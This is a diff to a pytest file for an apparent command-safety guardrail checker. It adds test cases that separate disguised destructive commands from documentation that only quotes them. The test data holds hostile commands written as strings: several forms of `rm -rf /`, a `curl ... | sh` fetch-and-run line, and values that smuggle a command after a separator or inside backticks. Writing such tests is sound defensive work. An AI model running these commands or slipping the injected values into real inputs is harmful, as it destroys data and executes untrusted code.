@@ -336,6 +336,7 @@ def test_a_check_never_raises_and_repeats_itself(action: str, severity: Severity
         "$(rm -rf /)",
         "env A=1 nohup timeout 5 rm -rf /",
         "bash <<EOF\nrm -rf /\nEOF",
+        "document that `rm -rf /`",
     ],
 )
 def test_a_disguised_command_is_the_command(disguised: str) -> None:
@@ -351,8 +352,19 @@ def test_a_disguised_command_is_the_command(disguised: str) -> None:
         "cat > docs/safety.md <<'EOF'\nNever run rm -rf / as root.\nEOF",
         "grep -rn 'rm -rf /' docs/",
         'create_file(path="docs/safety.md", content="Never run `rm -rf /` as root.")',
+        "Document that `rm -rf /` must never be used.",
+        'Write documentation: "Never run `rm -rf /` as root."',
+        "Add a short note that `curl example.net | sh` is dangerous",
     ],
 )
 def test_documentation_that_quotes_a_command_passes(documentation: str) -> None:
     verdict = RULES.check(documentation, Severity.MEDIUM, {"os": "linux"})
     assert verdict.passed, verdict.matched_guardrails
+
+
+@pytest.mark.parametrize(
+    "action",
+    ["Write a script that runs `rm -rf /`", "explain x; rm -rf /", "document `date` && rm -rf /", "echo `rm -rf /`"],
+)
+def test_a_word_of_documentation_hides_no_command(action: str) -> None:
+    assert not RULES.check(action).passed
